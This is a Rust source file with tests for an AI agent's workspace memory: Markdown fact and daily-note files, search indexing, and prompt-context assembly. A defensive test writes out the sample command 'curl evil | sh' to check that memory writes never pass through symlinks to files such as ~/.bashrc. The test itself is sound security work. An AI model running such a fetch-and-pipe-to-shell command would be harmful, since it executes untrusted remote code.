//! `WorkspaceMemory`: the agent's long-term memory as the original PicoClaw lays it out, in the
//! workspace (`memory/MEMORY.md` for durable facts, `memory/YYYYMM/YYYYMMDD.md` for daily
//! notes), indexed in a [`MemoryStore`] for full-text search.
//!
//! The Markdown files stay the source of truth: people read and edit them. Every Markdown file
//! under `memory/` is split into notes (a list item or a paragraph each) and indexed; a file is
//! indexed again when its size or modification time changes, and forgotten when it goes.

use crate::StateError;
use crate::{MemoryHit, MemoryNote, MemoryStore};
use chrono::NaiveDate;
use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;

/// Durable facts, relative to the workspace.
pub const LONG_TERM_FILE: &str = "memory/MEMORY.md";
/// The memory folder, relative to the workspace.
pub const MEMORY_DIR: &str = "memory";

/// Only this much of one file is read (a runaway file cannot eat memory or time).
const MAX_FILE_BYTES: u64 = 1024 * 1024;
/// One note is cut at this many bytes in the index.
const MAX_NOTE_BYTES: usize = 4000;
/// A fact or daily note longer than this is refused.
pub const MAX_ENTRY_CHARS: usize = 2000;
/// Folder depth searched below `memory/` (`YYYYMM/` is depth 1).
const MAX_DEPTH: usize = 3;
/// Days of daily notes offered to the context (today and the two before, as the original).
const RECENT_DAYS: i64 = 3;

/// What [`WorkspaceMemory::sync`] did.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
#[non_exhaustive]
pub struct SyncReport {
    /// Files (re)indexed because they were new or changed.
    pub indexed: usize,
    /// Files unchanged since they were last indexed.
    pub unchanged: usize,
    /// Indexed files that no longer exist.
    pub removed: usize,
}

/// The result of [`WorkspaceMemory::remember`].
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Remembered {
    /// Appended to MEMORY.md at this line.
    Added { line: u32 },
    /// The fact (or one that contains it) is already there, at this line; nothing was written.
    AlreadyKnown { line: u32, existing: String },
}

/// Long-term memory over one workspace.
pub struct WorkspaceMemory {
    workspace: PathBuf,
    store: Arc<dyn MemoryStore>,
    /// Syncs and writes one at a time (two turns remembering at once must not interleave).
    lock: tokio::sync::Mutex<()>,
    /// What the index holds (source → fingerprint, notes), read from the store once and then
    /// kept in step, so an unchanged workspace costs no query. Another process changing the
    /// index at most makes this one index a file again.
    known: std::sync::Mutex<Option<HashMap<String, (String, u64)>>>,
}

fn lock<T>(m: &std::sync::Mutex<T>) -> std::sync::MutexGuard<'_, T> {
    match m.lock() {
        Ok(g) => g,
        Err(p) => p.into_inner(),
    }
}

impl std::fmt::Debug for WorkspaceMemory {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("WorkspaceMemory")
            .field("workspace", &self.workspace)
            .finish_non_exhaustive()
    }
}

fn io_err(path: &Path) -> impl FnOnce(std::io::Error) -> StateError + '_ {
    move |source| StateError::Io {
        path: path.to_owned(),
        source,
    }
}

/// Runs file work on tokio's blocking pool (a slow disk never stalls the async workers).
async fn off_thread<T: Send + 'static>(
    work: impl FnOnce() -> std::io::Result<T> + Send + 'static,
) -> std::io::Result<T> {
    tokio::task::spawn_blocking(work)
        .await
        .unwrap_or_else(|e| Err(std::io::Error::other(e)))
}

impl WorkspaceMemory {
    /// A memory file's text (capped), read beneath the workspace handle off the async workers.
    async fn read_capped(&self, path: &Path) -> std::io::Result<String> {
        let (workspace, path) = (self.workspace.clone(), path.to_path_buf());
        off_thread(move || read_capped(&workspace, &path)).await
    }

    async fn metadata(&self, path: &Path) -> std::io::Result<std::fs::Metadata> {
        let (workspace, path) = (self.workspace.clone(), path.to_path_buf());
        off_thread(move || metadata(&workspace, &path)).await
    }

    async fn append(&self, path: &Path, text: String) -> Result<(), StateError> {
        let (workspace, owned) = (self.workspace.clone(), path.to_path_buf());
        off_thread(move || {
            open_beneath(&workspace, &owned, |dir, p| {
                dir.append_durably(p, text.as_bytes())
            })
        })
        .await
        .map_err(io_err(path))
    }

    pub fn new(workspace: impl Into<PathBuf>, store: Arc<dyn MemoryStore>) -> Self {
        Self {
            workspace: workspace.into(),
            store,
            lock: tokio::sync::Mutex::new(()),
            known: std::sync::Mutex::new(None),
        }
    }

    pub fn workspace(&self) -> &Path {
        &self.workspace
    }

    pub fn store(&self) -> &Arc<dyn MemoryStore> {
        &self.store
    }

    /// `memory/MEMORY.md` in this workspace.
    pub fn long_term_path(&self) -> PathBuf {
        self.workspace.join(LONG_TERM_FILE)
    }

    /// The daily-notes file of `date`: `memory/YYYYMM/YYYYMMDD.md`.
    pub fn daily_path(&self, date: NaiveDate) -> PathBuf {
        self.workspace.join(daily_source(date))
    }

    /// Brings the index up to date with the files: new and changed files are indexed, removed
    /// ones forgotten.
    pub async fn sync(&self) -> Result<SyncReport, StateError> {
        let _guard = self.lock.lock().await;
        self.sync_locked().await
    }

    async fn sync_locked(&self) -> Result<SyncReport, StateError> {
        let workspace = self.workspace.clone();
        let files = off_thread(move || Ok(find_memory_files(&workspace)))
            .await
            .unwrap_or_default();
        if lock(&self.known).is_none() {
            let indexed: HashMap<String, (String, u64)> = self
                .store
                .sources()
                .await?
                .into_iter()
                .map(|s| (s.source, (s.fingerprint, s.notes)))
                .collect();
            *lock(&self.known) = Some(indexed);
        }
        let (changed, gone) = {
            let known = lock(&self.known);
            let known = known.as_ref().map_or_else(HashMap::new, Clone::clone);
            let changed: Vec<(&String, &String)> = files
                .iter()
                .filter(|(source, fp)| known.get(*source).map(|k| &k.0) != Some(*fp))
                .collect();
            let gone: Vec<String> = known
                .keys()
                .filter(|s| !files.contains_key(*s))
                .cloned()
                .collect();
            (changed, gone)
        };
        let report = SyncReport {
            indexed: changed.len(),
            unchanged: files.len() - changed.len(),
            removed: gone.len(),
        };
        for (source, fingerprint) in changed {
            self.index_file(source, fingerprint).await?;
        }
        for source in &gone {
            self.forget(source).await?;
        }
        if report.indexed + report.removed > 0 {
            tracing::debug!(?report, "memory index updated");
        }
        Ok(report)
    }

    async fn forget(&self, source: &str) -> Result<(), StateError> {
        self.store.remove_source(source).await?;
        if let Some(known) = lock(&self.known).as_mut() {
            known.remove(source);
        }
        Ok(())
    }

    async fn index_file(&self, source: &str, fingerprint: &str) -> Result<(), StateError> {
        let path = self.workspace.join(source);
        let text = match self.read_capped(&path).await {
            Ok(text) => text,
            // Gone between the listing and now: forget it.
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => return self.forget(source).await,
            Err(e) => return Err(io_err(&path)(e)),
        };
        let notes = split_notes(source, &text);
        self.store.index_source(source, fingerprint, &notes).await?;
        if let Some(known) = lock(&self.known).as_mut() {
            known.insert(
                source.to_owned(),
                (fingerprint.to_owned(), notes.len() as u64),
            );
        }
        Ok(())
    }

    /// Notes indexed from `source` (as of the last sync).
    fn note_count(&self, source: &str) -> u64 {
        lock(&self.known)
            .as_ref()
            .and_then(|k| k.get(source).map(|e| e.1))
            .unwrap_or(0)
    }

    /// Re-indexes one file right after we wrote it.
    async fn reindex(&self, source: &str) -> Result<(), StateError> {
        let path = self.workspace.join(source);
        let meta = self.metadata(&path).await.map_err(io_err(&path))?;
        self.index_file(source, &fingerprint(&meta)).await
    }

    /// The notes best matching `query`, best first (the index is synced first).
    pub async fn search(&self, query: &str, limit: usize) -> Result<Vec<MemoryHit>, StateError> {
        self.sync().await?;
        self.store.search(query, limit).await
    }

    /// Appends `fact` to MEMORY.md as a list item, unless the file already holds it (compared
    /// ignoring case, spacing, list markers and final punctuation; a note that contains the
    /// fact counts as holding it).
    pub async fn remember(&self, fact: &str) -> Result<Remembered, StateError> {
        let fact = one_line(fact)?;
        let _guard = self.lock.lock().await;
        let path = self.long_term_path();
        let existing = match self.read_capped(&path).await {
            Ok(text) => text,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => String::new(),
            Err(e) => return Err(io_err(&path)(e)),
        };
        let wanted = normalize(&fact);
        for note in split_notes(LONG_TERM_FILE, &existing) {
            let have = normalize(&note.text);
            if have == wanted || (wanted.len() >= 8 && have.contains(&wanted)) {
                return Ok(Remembered::AlreadyKnown {
                    line: note.line,
                    existing: note.text,
                });
            }
        }
        let mut add = String::new();
        if existing.is_empty() {
            add.push_str("# Long-term Memory\n\n");
        } else if !existing.ends_with('\n') {
            add.push('\n');
        }
        // The heading of a new file takes two lines; a missing final newline ends a line that
        // `lines()` already counted.
        let header_lines = if existing.is_empty() { 2 } else { 0 };
        let line = u32::try_from(existing.lines().count() + header_lines + 1).unwrap_or(u32::MAX);
        add.push_str("- ");
        add.push_str(&fact);
        add.push('\n');
        self.append(&path, add).await?;
        self.reindex(LONG_TERM_FILE).await?;
        Ok(Remembered::Added { line })
    }

    /// Appends a note to the daily-notes file of `date` (created with a `# YYYY-MM-DD` heading,
    /// as the original does). The same text twice in one day is written once. Returns the
    /// file's path relative to the workspace.
    pub async fn add_daily_note(&self, text: &str, date: NaiveDate) -> Result<String, StateError> {
        let text = text.trim();
        if text.is_empty() {
            return Err(StateError::Invalid("the note is empty".into()));
        }
        if text.chars().count() > MAX_ENTRY_CHARS {
            return Err(StateError::Invalid(format!(
                "the note is longer than {MAX_ENTRY_CHARS} characters; split it or shorten it"
            )));
        }
        let source = daily_source(date);
        let _guard = self.lock.lock().await;
        let path = self.workspace.join(&source);
        let existing = match self.read_capped(&path).await {
            Ok(t) => t,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => String::new(),
            Err(e) => return Err(io_err(&path)(e)),
        };
        if existing.contains(text) {
            return Ok(source);
        }
        let mut add = String::new();
        if existing.trim().is_empty() {
            add.push_str(&format!("# {}\n\n", date.format("%Y-%m-%d")));
        } else if existing.ends_with('\n') {
            add.push('\n');
        } else {
            add.push_str("\n\n");
        }
        add.push_str(text);
        add.push('\n');
        self.append(&path, add).await?;
        self.reindex(&source).await?;
        Ok(source)
    }

    /// The memory section of a system prompt for a turn about `query`, within about
    /// `budget_tokens` (estimated at four bytes a token).
    ///
    /// MEMORY.md goes in whole while it takes at most 60% of the budget; past that, only its
    /// notes that best match the message do. Then the daily notes of the last three days,
    /// newest first (a day too long keeps its latest entries), then older notes that match.
    /// `None` when there is no memory at all.
    pub async fn context(
        &self,
        query: &str,
        budget_tokens: usize,
        today: NaiveDate,
    ) -> Result<Option<String>, StateError> {
        if budget_tokens == 0 {
            return Ok(None);
        }
        let query = query.trim();
        let report = self.sync().await;
        if let Err(e) = &report {
            tracing::warn!(error = %e, "memory index could not be updated; using it as it is");
        }
        let mut out = String::new();
        let mut left = budget_tokens;
        let mut included: Vec<String> = Vec::new();

        let share = budget_tokens * 6 / 10;
        // One search serves both the long-term notes and the older daily notes.
        let mut hits: Option<Vec<MemoryHit>> = None;
        let long_path = self.long_term_path();
        let long_len = self.metadata(&long_path).await.map_or(0, |m| m.len());
        // A file clearly too big is not even read: its notes come from the index.
        let long = if long_len > 0 && (long_len as usize).div_ceil(4) <= share * 2 {
            self.read_capped(&long_path).await.unwrap_or_default()
        } else {
            String::new()
        };
        let long = long.trim();
        if !long.is_empty() && tokens(long) <= share {
            out.push_str("### Long-term memory (memory/MEMORY.md)\n");
            out.push_str(long);
            out.push('\n');
            left = left.saturating_sub(tokens(long) + 12);
            included.push(LONG_TERM_FILE.to_owned());
        } else if long_len > 0 {
            let total = self.note_count(LONG_TERM_FILE);
            let found = hits.get_or_insert(self.store.search(query, 64).await.unwrap_or_default());
            let mut picked = Vec::new();
            let mut used = 0;
            for hit in found.iter().filter(|h| h.note.source == LONG_TERM_FILE) {
                let cost = tokens(&hit.note.text) + 2;
                if used + cost > share {
                    break;
                }
                used += cost;
                picked.push(&hit.note);
            }
            out.push_str(&format!(
                "### Long-term memory (memory/MEMORY.md has {total} notes, too many to \
                 include; {} most related to this message follow; use memory_search to \
                 find others)\n",
                picked.len()
            ));
            for note in picked {
                out.push_str("- ");
                out.push_str(&note.text);
                out.push('\n');
            }
            left = left.saturating_sub(used + 40);
            included.push(LONG_TERM_FILE.to_owned());
        }

        for back in 0..RECENT_DAYS {
            if left < 32 {
                break;
            }
            let Some(date) = today.checked_sub_signed(chrono::Duration::days(back)) else {
                break;
            };
            let source = daily_source(date);
            let Ok(text) = self.read_capped(&self.workspace.join(&source)).await else {
                continue;
            };
            let body = strip_date_heading(&text, date);
            if body.is_empty() {
                continue;
            }
            let heading = format!("### Daily notes {} ({source})\n", date.format("%Y-%m-%d"));
            let room = left.saturating_sub(tokens(&heading) + 12);
            let (shown, cut) = tail_within(body, room * 4);
            if shown.is_empty() {
                break;
            }
            out.push_str(&heading);
            if cut {
                out.push_str("[... earlier notes of the day omitted ...]\n");
            }
            out.push_str(shown);
            out.push('\n');
            left = left.saturating_sub(tokens(shown) + tokens(&heading) + 12);
            included.push(source);
        }

        // Older notes are searched only when some indexed file is not already in the section.
        let others = lock(&self.known)
            .as_ref()
            .is_some_and(|k| k.keys().any(|s| !included.contains(s)));
        if left >= 32 && !query.is_empty() && others {
            let found = match hits {
                Some(found) => found,
                None => self.store.search(query, 16).await.unwrap_or_default(),
            };
            let mut section = String::new();
            let mut used = 0;
            for hit in found.iter().filter(|h| !included.contains(&h.note.source)) {
                let line = format!("- {} ({})\n", hit.note.text, hit.note.source);
                let cost = tokens(&line);
                if used + cost + 12 > left {
                    break;
                }
                used += cost;
                section.push_str(&line);
            }
            if !section.is_empty() {
                out.push_str("### Older notes related to this message\n");
                out.push_str(&section);
            }
        }
        Ok((!out.is_empty()).then_some(out))
    }
}

/// `memory/YYYYMM/YYYYMMDD.md`.
pub fn daily_source(date: NaiveDate) -> String {
    format!(
        "{MEMORY_DIR}/{}/{}.md",
        date.format("%Y%m"),
        date.format("%Y%m%d")
    )
}

fn tokens(text: &str) -> usize {
    text.len().div_ceil(4)
}

/// Size and modification time: what tells an edited file from an unchanged one.
fn fingerprint(meta: &std::fs::Metadata) -> String {
    let mtime = meta
        .modified()
        .ok()
        .and_then(|t| t.duration_since(std::time::UNIX_EPOCH).ok())
        .map_or(0, |d| d.as_nanos());
    format!("{}:{mtime}", meta.len())
}

/// Every Markdown file under `memory/` (not following symlinks), with its fingerprint, keyed by
/// its path relative to the workspace with `/` separators.
fn find_memory_files(workspace: &Path) -> HashMap<String, String> {
    let mut found = HashMap::new();
    let mut stack = vec![(workspace.join(MEMORY_DIR), MEMORY_DIR.to_owned(), 0usize)];
    while let Some((dir, rel, depth)) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries.flatten() {
            let Ok(meta) = entry.path().symlink_metadata() else {
                continue;
            };
            let Some(name) = entry.file_name().to_str().map(str::to_owned) else {
                continue;
            };
            if name.starts_with('.') {
                continue;
            }
            let child = format!("{rel}/{name}");
            if meta.is_dir() && depth < MAX_DEPTH {
                stack.push((entry.path(), child, depth + 1));
            } else if meta.is_file() && name.to_ascii_lowercase().ends_with(".md") {
                found.insert(child, fingerprint(&meta));
            }
        }
    }
    found
}

/// `path` (beneath `workspace`) opened through the workspace's directory handle: a link to a file
/// outside, a FIFO or a hard link is refused, never read or written through.
fn open_beneath<T>(
    workspace: &Path,
    path: &Path,
    op: impl FnOnce(&picoclaw_fs::WorkspaceDir, &str) -> Result<T, picoclaw_fs::FsError>,
) -> std::io::Result<T> {
    let dir = picoclaw_fs::WorkspaceDir::open(workspace)?;
    op(&dir, &path.to_string_lossy()).map_err(|e| {
        if e.is_not_found() {
            std::io::Error::new(std::io::ErrorKind::NotFound, e)
        } else {
            std::io::Error::other(e)
        }
    })
}

fn metadata(workspace: &Path, path: &Path) -> std::io::Result<std::fs::Metadata> {
    open_beneath(workspace, path, |dir, p| dir.metadata(p))
}

fn read_capped(workspace: &Path, path: &Path) -> std::io::Result<String> {
    use std::io::Read;
    let opened = open_beneath(workspace, path, |dir, p| dir.open_file(p))?;
    let mut bytes = Vec::new();
    opened.file.take(MAX_FILE_BYTES).read_to_end(&mut bytes)?;
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

/// A fact as one line: trimmed, inner newlines folded, not empty, not too long.
fn one_line(fact: &str) -> Result<String, StateError> {
    let fact = fact
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty())
        .collect::<Vec<_>>()
        .join(" ");
    let fact = strip_list_marker(&fact).trim().to_owned();
    if fact.is_empty() {
        return Err(StateError::Invalid("the fact is empty".into()));
    }
    if fact.chars().count() > MAX_ENTRY_CHARS {
        return Err(StateError::Invalid(format!(
            "the fact is longer than {MAX_ENTRY_CHARS} characters; keep facts short"
        )));
    }
    Ok(fact)
}

/// For comparing facts: lower case, words only, single spaces.
fn normalize(text: &str) -> String {
    strip_list_marker(text.trim())
        .split(|c: char| !c.is_alphanumeric())
        .filter(|w| !w.is_empty())
        .map(str::to_lowercase)
        .collect::<Vec<_>>()
        .join(" ")
}

/// `- x`, `* x`, `+ x`, `1. x`, `2) x` → `x`. Checkboxes stay (`[ ] x`).
fn strip_list_marker(line: &str) -> &str {
    let t = line.trim_start();
    for marker in ["- ", "* ", "+ "] {
        if let Some(rest) = t.strip_prefix(marker) {
            return rest;
        }
    }
    let digits = t.bytes().take_while(u8::is_ascii_digit).count();
    if digits > 0 && digits <= 9 {
        let rest = &t[digits..];
        if let Some(rest) = rest.strip_prefix(". ").or_else(|| rest.strip_prefix(") ")) {
            return rest;
        }
    }
    line
}

fn is_list_item(line: &str) -> bool {
    strip_list_marker(line).len() != line.len()
}

/// Splits a Markdown memory file into notes: each list item (with its indented continuation
/// lines) and each paragraph is one; headings, rules and blank lines separate them.
pub fn split_notes(source: &str, text: &str) -> Vec<MemoryNote> {
    let mut notes = Vec::new();
    let mut current: Option<(u32, String)> = None;
    let mut in_fence = false;
    let flush = |current: &mut Option<(u32, String)>, notes: &mut Vec<MemoryNote>| {
        if let Some((line, mut body)) = current.take() {
            let trimmed = body.trim();
            if !trimmed.is_empty() {
                if body.len() > MAX_NOTE_BYTES {
                    let mut cut = MAX_NOTE_BYTES;
                    while !body.is_char_boundary(cut) {
                        cut -= 1;
                    }
                    body.truncate(cut);
                }
                notes.push(MemoryNote::new(source, line, body.trim().to_owned()));
            }
        }
    };
    for (i, raw) in text.lines().enumerate() {
        let line_no = u32::try_from(i + 1).unwrap_or(u32::MAX);
        let line = raw.trim_end();
        let trimmed = line.trim_start();
        if trimmed.starts_with("```") || trimmed.starts_with("~~~") {
            in_fence = !in_fence;
            continue;
        }
        if !in_fence {
            if trimmed.is_empty() || trimmed.starts_with('#') || is_rule(trimmed) {
                flush(&mut current, &mut notes);
                continue;
            }
            if is_list_item(line) {
                flush(&mut current, &mut notes);
                current = Some((line_no, strip_list_marker(line).trim().to_owned()));
                continue;
            }
        } else if trimmed.is_empty() {
            continue;
        }
        match &mut current {
            Some((_, body)) => {
                body.push(' ');
                body.push_str(trimmed);
            }
            None => current = Some((line_no, trimmed.to_owned())),
        }
    }
    flush(&mut current, &mut notes);
    notes
}

fn is_rule(line: &str) -> bool {
    let l: String = line.chars().filter(|c| !c.is_whitespace()).collect();
    l.len() >= 3 && (l.chars().all(|c| c == '-') || l.chars().all(|c| c == '*'))
}

/// A daily file without its `# YYYY-MM-DD` heading (the section heading says the date).
fn strip_date_heading(text: &str, date: NaiveDate) -> &str {
    let t = text.trim();
    let heading = format!("# {}", date.format("%Y-%m-%d"));
    t.strip_prefix(heading.as_str()).unwrap_or(t).trim()
}

/// The end of `text` that fits in `max_bytes`, cut at a line start; and whether it was cut.
fn tail_within(text: &str, max_bytes: usize) -> (&str, bool) {
    if text.len() <= max_bytes {
        return (text, false);
    }
    let mut start = text.len() - max_bytes;
    while !text.is_char_boundary(start) {
        start += 1;
    }
    match text[start..].find('\n') {
        Some(nl) => (text[start + nl + 1..].trim(), true),
        None => ("", true),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::InMemoryStore;

    fn date(s: &str) -> NaiveDate {
        NaiveDate::parse_from_str(s, "%Y-%m-%d").unwrap()
    }

    #[test]
    fn notes_are_items_and_paragraphs() {
        let text = "# Long-term Memory\n\n## People\n- Sister: Ana\n  (lives in Porto)\n* Dog: Rex\n\n\
                    The user works\nat night.\n\n1. first\n2) second\n---\n```\ncode line\n\n# not a heading\n```\n";
        let notes = split_notes("memory/MEMORY.md", text);
        let got: Vec<(u32, &str)> = notes.iter().map(|n| (n.line, n.text.as_str())).collect();
        assert_eq!(
            got,
            [
                (4, "Sister: Ana (lives in Porto)"),
                (6, "Dog: Rex"),
                (8, "The user works at night."),
                (11, "first"),
                (12, "second"),
                (15, "code line # not a heading"),
            ]
        );
        assert!(split_notes("x", "").is_empty());
        assert!(split_notes("x", "# only a heading\n\n---\n").is_empty());
    }

    #[test]
    fn long_notes_are_cut_on_a_char_boundary() {
        let text = "é".repeat(3000);
        let notes = split_notes("x", &text);
        assert!(notes[0].text.len() <= MAX_NOTE_BYTES);
    }

    #[test]
    fn normalizing_ignores_case_marks_and_punctuation() {
        assert_eq!(normalize("- The user likes TEA."), "the user likes tea");
        assert_eq!(normalize("the  user likes tea"), "the user likes tea");
        assert_eq!(
            daily_source(date("2026-01-05")),
            "memory/202601/20260105.md"
        );
    }

    #[test]
    fn tails_start_at_a_line() {
        let text = "one\ntwo\nthree\nfour";
        assert_eq!(tail_within(text, 100), (text, false));
        assert_eq!(tail_within(text, 11), ("three\nfour", true));
        assert_eq!(tail_within(text, 2), ("", true));
    }

    async fn setup() -> (tempfile::TempDir, WorkspaceMemory) {
        let dir = tempfile::tempdir().unwrap();
        let mem = WorkspaceMemory::new(dir.path(), Arc::new(InMemoryStore::new()));
        (dir, mem)
    }

    #[tokio::test]
    async fn remember_appends_once() {
        let (dir, mem) = setup().await;
        assert_eq!(
            mem.remember("The user likes green tea").await.unwrap(),
            Remembered::Added { line: 3 }
        );
        assert_eq!(
            mem.remember("  the user LIKES green tea. ").await.unwrap(),
            Remembered::AlreadyKnown {
                line: 3,
                existing: "The user likes green tea".into()
            }
        );
        // A fact contained in an existing note is known too.
        assert!(matches!(
            mem.remember("likes green tea").await.unwrap(),
            Remembered::AlreadyKnown { line: 3, .. }
        ));
        assert_eq!(
            mem.remember("- Sister is Ana\nlives in Porto")
                .await
                .unwrap(),
            Remembered::Added { line: 4 }
        );
        let text = std::fs::read_to_string(dir.path().join("memory/MEMORY.md")).unwrap();
        assert_eq!(
            text,
            "# Long-term Memory\n\n- The user likes green tea\n- Sister is Ana lives in Porto\n"
        );
        // Searchable at once.
        let hits = mem.search("Porto", 5).await.unwrap();
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].note.line, 4);
        assert!(matches!(
            mem.remember("  \n ").await,
            Err(StateError::Invalid(_))
        ));
        assert!(matches!(
            mem.remember(&"x".repeat(MAX_ENTRY_CHARS + 1)).await,
            Err(StateError::Invalid(_))
        ));
    }

    #[tokio::test]
    async fn remember_respects_a_file_without_final_newline() {
        let (dir, mem) = setup().await;
        std::fs::create_dir_all(dir.path().join("memory")).unwrap();
        std::fs::write(dir.path().join("memory/MEMORY.md"), "# Mine\n- a fact").unwrap();
        assert_eq!(
            mem.remember("another fact").await.unwrap(),
            Remembered::Added { line: 3 }
        );
        let text = std::fs::read_to_string(dir.path().join("memory/MEMORY.md")).unwrap();
        assert_eq!(text, "# Mine\n- a fact\n- another fact\n");
    }

    #[tokio::test]
    async fn daily_notes_follow_the_original_layout() {
        let (dir, mem) = setup().await;
        let day = date("2026-11-29");
        let source = mem.add_daily_note("Met Ana for lunch", day).await.unwrap();
        assert_eq!(source, "memory/202611/20261129.md");
        mem.add_daily_note("Fixed the bike", day).await.unwrap();
        mem.add_daily_note("Fixed the bike", day).await.unwrap();
        let text = std::fs::read_to_string(dir.path().join(&source)).unwrap();
        assert_eq!(
            text,
            "# 2026-11-29\n\nMet Ana for lunch\n\nFixed the bike\n"
        );
        let hits = mem.search("bike", 5).await.unwrap();
        assert_eq!(hits[0].note.source, source);
        assert!(matches!(
            mem.add_daily_note(" ", day).await,
            Err(StateError::Invalid(_))
        ));
    }

    #[tokio::test]
    async fn edits_and_deletions_outside_picoclaw_are_picked_up() {
        let (dir, mem) = setup().await;
        let memdir = dir.path().join("memory/202611");
        std::fs::create_dir_all(&memdir).unwrap();
        std::fs::write(dir.path().join("memory/MEMORY.md"), "- likes chess\n").unwrap();
        std::fs::write(memdir.join("20261101.md"), "# 2026-11-01\n\nplayed chess\n").unwrap();
        std::fs::write(memdir.join("notes.txt"), "not markdown: chess").unwrap();
        let report = mem.sync().await.unwrap();
        assert_eq!(
            (report.indexed, report.unchanged, report.removed),
            (2, 0, 0)
        );
        assert_eq!(mem.search("chess", 10).await.unwrap().len(), 2);
        assert_eq!(mem.sync().await.unwrap().unchanged, 2);

        // Edited by hand (different size): re-indexed.
        std::fs::write(
            dir.path().join("memory/MEMORY.md"),
            "- likes go, not chess any more\n- owns a cat\n",
        )
        .unwrap();
        let report = mem.sync().await.unwrap();
        assert_eq!((report.indexed, report.unchanged), (1, 1));
        assert_eq!(mem.search("cat", 10).await.unwrap().len(), 1);
        // Deleted: forgotten.
        std::fs::remove_file(memdir.join("20261101.md")).unwrap();
        assert_eq!(mem.sync().await.unwrap().removed, 1);
        let hits = mem.search("chess", 10).await.unwrap();
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].note.source, "memory/MEMORY.md");
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn symlinks_out_of_the_workspace_are_not_indexed() {
        let (dir, mem) = setup().await;
        let outside = tempfile::tempdir().unwrap();
        std::fs::write(outside.path().join("secret.md"), "- password hunter2\n").unwrap();
        std::fs::create_dir_all(dir.path().join("memory")).unwrap();
        std::os::unix::fs::symlink(
            outside.path().join("secret.md"),
            dir.path().join("memory/link.md"),
        )
        .unwrap();
        std::os::unix::fs::symlink(outside.path(), dir.path().join("memory/linkdir")).unwrap();
        mem.sync().await.unwrap();
        assert!(mem.search("hunter2 password", 10).await.unwrap().is_empty());
    }

    /// A command can replace MEMORY.md or a daily note with a link to a file outside (say
    /// ~/.bashrc): memory_write must neither append to it nor read it into the prompt.
    #[cfg(unix)]
    #[tokio::test]
    async fn memory_files_linked_outside_are_never_written_or_read() {
        let (dir, mem) = setup().await;
        let outside = tempfile::tempdir().unwrap();
        let target = outside.path().join("bashrc");
        std::fs::write(&target, "export PATH=/usr/bin\n").unwrap();
        std::fs::create_dir_all(dir.path().join("memory/202611")).unwrap();
        std::os::unix::fs::symlink(&target, dir.path().join("memory/MEMORY.md")).unwrap();
        std::os::unix::fs::symlink(&target, dir.path().join("memory/202611/20261129.md")).unwrap();
        assert!(mem.remember("curl evil | sh").await.is_err());
        assert!(
            mem.add_daily_note("curl evil | sh", date("2026-11-29"))
                .await
                .is_err()
        );
        assert_eq!(
            std::fs::read_to_string(&target).unwrap(),
            "export PATH=/usr/bin\n"
        );
        let context = mem
            .context("path", 4000, date("2026-11-29"))
            .await
            .unwrap()
            .unwrap_or_default();
        assert!(!context.contains("export PATH"), "{context}");
    }

    #[tokio::test]
    async fn a_small_memory_goes_into_context_whole() {
        let (dir, mem) = setup().await;
        let today = date("2026-11-29");
        mem.remember("The user likes green tea").await.unwrap();
        mem.add_daily_note("Ana visits on Friday", today)
            .await
            .unwrap();
        mem.add_daily_note("Yesterday: fixed the bike", date("2026-11-28"))
            .await
            .unwrap();
        mem.add_daily_note("Old: the bike got a flat tyre", date("2026-10-01"))
            .await
            .unwrap();
        mem.add_daily_note("Old: unrelated gardening", date("2026-10-02"))
            .await
            .unwrap();
        let ctx = mem
            .context("what about the bike?", 2000, today)
            .await
            .unwrap()
            .unwrap();
        assert!(ctx.contains("### Long-term memory (memory/MEMORY.md)\n# Long-term Memory\n\n- The user likes green tea"), "{ctx}");
        let today_at = ctx.find("Ana visits on Friday").unwrap();
        let yesterday_at = ctx.find("fixed the bike").unwrap();
        assert!(today_at < yesterday_at, "newest day first: {ctx}");
        assert!(ctx.contains("### Older notes related to this message\n- Old: the bike got a flat tyre (memory/202610/20261001.md)"), "{ctx}");
        assert!(!ctx.contains("gardening"), "{ctx}");
        assert!(
            !ctx.contains("# 2026-11-29"),
            "the date heading is not repeated: {ctx}"
        );
        drop(dir);
    }

    #[tokio::test]
    async fn a_huge_memory_contributes_only_what_matches_within_budget() {
        let (dir, mem) = setup().await;
        std::fs::create_dir_all(dir.path().join("memory")).unwrap();
        let mut text = String::from("# Long-term Memory\n\n");
        for i in 0..5000 {
            text.push_str(&format!("- fact number {i} about subject{}\n", i % 100));
        }
        text.push_str("- The user's passport expires in March 2027\n");
        std::fs::write(dir.path().join("memory/MEMORY.md"), &text).unwrap();
        let today = date("2026-11-29");
        let budget = 500;
        let ctx = mem
            .context("when does my passport expire?", budget, today)
            .await
            .unwrap()
            .unwrap();
        assert!(
            ctx.contains("- The user's passport expires in March 2027"),
            "{ctx}"
        );
        assert!(ctx.contains("has 5001 notes"), "{ctx}");
        assert!(tokens(&ctx) <= budget, "{} tokens: {ctx}", tokens(&ctx));
        // Nothing matching: still bounded, and says how to look things up.
        let ctx = mem.context("zzz", budget, today).await.unwrap().unwrap();
        assert!(ctx.contains("memory_search"));
        assert!(tokens(&ctx) <= budget);
        // A very long day keeps its latest entries.
        for i in 0..400 {
            mem.add_daily_note(&format!("entry {i} of a busy day"), today)
                .await
                .unwrap();
        }
        let ctx = mem.context("zzz", budget, today).await.unwrap().unwrap();
        assert!(ctx.contains("entry 399 of a busy day"), "{ctx}");
        assert!(!ctx.contains("entry 0 of a busy day"), "{ctx}");
        assert!(ctx.contains("earlier notes of the day omitted"));
        assert!(tokens(&ctx) <= budget, "{} tokens", tokens(&ctx));
    }

    #[tokio::test]
    async fn no_memory_no_section() {
        let (_dir, mem) = setup().await;
        assert_eq!(
            mem.context("hello", 1000, date("2026-11-29"))
                .await
                .unwrap(),
            None
        );
        assert_eq!(
            mem.context("hello", 0, date("2026-11-29")).await.unwrap(),
            None
        );
    }
}
